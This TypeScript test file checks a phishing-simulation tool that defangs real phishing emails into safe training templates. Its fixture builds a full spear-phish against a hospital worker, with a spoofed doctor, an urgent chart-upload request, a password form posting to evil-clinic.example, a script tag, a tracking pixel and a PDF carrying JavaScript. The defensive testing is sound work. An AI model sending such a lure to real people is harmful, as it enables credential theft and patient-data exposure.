import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { simpleParser } from 'mailparser';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import sharp from 'sharp';
import { loadDirectoryFile } from '../directory/directory.ts';
import { defangMessage } from './defang.ts';
import { peopleSource } from './people-source.ts';
import { renderMessage, silhouette } from './render.ts';
import { parseTemplate } from './template.ts';

const ROOT = new URL('../../', import.meta.url);
const directory = loadDirectoryFile(fileURLToPath(new URL('fixtures/demo-org/directory.yaml', ROOT)));
const carterPhoto = readFileSync(new URL('fixtures/demo-org/photos/p01.jpg', ROOT));

async function realPhish(): Promise<Buffer> {
  const logo = await sharp({ create: { width: 200, height: 60, channels: 3, background: '#1f3a93' } }).png().toBuffer();
  return new MailComposer({
    from: { name: 'Dr. Alan Pierce', address: 'a.pierce@stmarys-health-records.example' },
    to: { name: 'Maria Lopez', address: 'maria.lopez@stmarys-health.org' },
    subject: 'Maria, urgent records request from Dr. Alan Pierce',
    text: 'Maria,\n\nI need the chart now. Upload it at https://evil-clinic.example/upload?id=991 or call me on 1-888-555-0142.\nQuestions: billing@evil-clinic.example\n\nDr. Alan Pierce, MD',
    html: `<html><head><style>body{background:url(https://evil-clinic.example/bg.png)}</style><script>steal()</script></head><body>
      <img src="cid:logo@x"><p>Maria,</p>
      <table><tr><td><img src="cid:doc@x" width="96"></td><td>
      <p>I need the chart now. <a href="https://evil-clinic.example/upload?id=991">Upload it here</a> or
      <a href="https://bit.ly/3xEvil">use the backup link</a>, or call me on 1-888-555-0142.</p>
      <p>Working with Dr. Elizabeth Carter on this one.</p>
      <form action="https://evil-clinic.example/collect"><input name="password"></form>
      <p onclick="x()">Questions: <a href="mailto:billing@evil-clinic.example">billing@evil-clinic.example</a></p>
      <p>Dr. Alan Pierce, MD</p></td></tr></table>
      <img src="https://tracker.evil-clinic.example/open.gif?u=maria" width="1" height="1">
      </body></html>`,
    attachments: [
      { filename: 'logo.png', content: logo, cid: 'logo@x', contentType: 'image/png' },
      { filename: 'headshot.jpg', content: carterPhoto, cid: 'doc@x', contentType: 'image/jpeg' },
      { filename: 'Invoice-4471.pdf', content: Buffer.from('%PDF-1.4\n/JS (app.alert(1))\n%%EOF'), contentType: 'application/pdf' },
    ],
  })
    .compile()
    .build();
}

describe('real phish → simulation (defanging)', () => {
  it('keeps nothing of the attack that could hurt, and says what it changed', async () => {
    const { template, report } = await defangMessage(await realPhish(), { directory, slug: 'real-phish-test', orgDomains: ['stmarys-health.org'] });
    const t = parseTemplate(template, 'defanged');
    const all = JSON.stringify(t);
    assert.doesNotMatch(all, /evil-clinic|bit\.ly|tracker\./, 'no original URL, host or address survives');
    assert.doesNotMatch(all, /<script|<style|<form|onclick|steal\(\)|cid:/i, 'no active content, no original parts');
    assert.doesNotMatch(all, /Alan Pierce|Elizabeth Carter/, 'clinicians’ names are replaced');
    assert.doesNotMatch(all, /888-555-0142/, 'the attacker’s number is replaced');
    assert.doesNotMatch(all, /Maria/, 'the original recipient is replaced by the new one');

    assert.match(t.html, /<a href="\{\{link:1\}\}">Upload it here<\/a>/);
    assert.match(t.html, /<a href="\{\{link:2\}\}">use the backup link<\/a>/);
    assert.match(t.text, /\{\{link:1\}\}/, 'the same URL in the text part gets the same link number');
    assert.match(t.html, /\{\{photo\}\}/);
    assert.equal(t.photo, 'silhouette');
    assert.match(t.html, /call me on \{\{callback\}\}/);
    assert.equal(t.subject, "{{first_name}}, urgent records request from Dr. {{fake_doctor}}");
    assert.equal(t.from.name, 'Dr. {{fake_doctor}}');
    assert.equal(t.landing.kind, 'credentials', 'the phish had a form: its landing asks for credentials');

    assert.equal(report.links, 2);
    assert.deepEqual(report.attachmentsRemoved, ['Invoice-4471.pdf']);
    assert.equal(report.remoteImagesRemoved, 1, 'the tracking pixel');
    assert.equal(report.imagesRemoved, 1, 'the logo');
    assert.equal(report.photosReplaced, 1);
    assert.deepEqual(report.directoryPhotos, ['Elizabeth Carter']);
    assert.ok(report.namesReplaced.includes('Alan Pierce') && report.namesReplaced.includes('Elizabeth Carter'), JSON.stringify(report.namesReplaced));
    assert.ok(report.phonesReplaced >= 2);
  });

  it('renders as a simulation: tracking links, the silhouette instead of the doctor, no attachment', async () => {
    const { template } = await defangMessage(await realPhish(), { directory, slug: 'real-phish-test', orgDomains: ['stmarys-health.org'] });
    const t = parseTemplate(template, 'defanged');
    const m = await renderMessage({
      template: t,
      recipient: { email: 'jose.nunez@stmarys-health.org', name: 'José Núñez', department: 'Internal Medicine' },
      seed: 4,
      org: 'St Mary’s Health',
      senderDomain: 'sim.stmarys-health.org',
      callback: '+1 (617) 555-0199',
      link: (n) => `https://portal.example/sim/c/L${n}`,
      pixelUrl: 'https://portal.example/sim/o/P',
      people: peopleSource(directory, ['stmarys-health.org']),
      now: 0,
    });
    const parsed = await simpleParser(m.raw);
    assert.match(m.html, /href="https:\/\/portal\.example\/sim\/c\/L1"/);
    assert.match(m.subject, /^José, urgent records request from Dr\. [A-Z][a-z]+ [A-Z][a-z]+$/);
    assert.deepEqual(parsed.attachments.map((a) => a.contentType), ['image/png']);
    assert.ok(parsed.attachments[0]!.content.equals(await silhouette()), 'the only image is the neutral silhouette');
    assert.doesNotMatch(m.raw.toString('latin1'), /evil-clinic/);
  });

  it('turns a text-only phish into a template with a link', async () => {
    const raw = Buffer.from('From: "Benefits" <kits@x.example>\r\nTo: a@stmarys-health.org\r\nSubject: Your kit\r\nMessage-ID: <1@x>\r\n\r\nCall 1-888-555-0142 within 24 hours to confirm your kit.\r\n');
    const { template } = await defangMessage(raw, { directory: null, slug: 'real-phish-text', orgDomains: ['stmarys-health.org'] });
    const t = parseTemplate(template, 'defanged');
    assert.match(t.html, /\{\{link\}\}/);
    assert.equal(t.tactic, 'callback');
    assert.match(t.text, /Call \{\{callback\}\} within 24 hours/);
  });
});
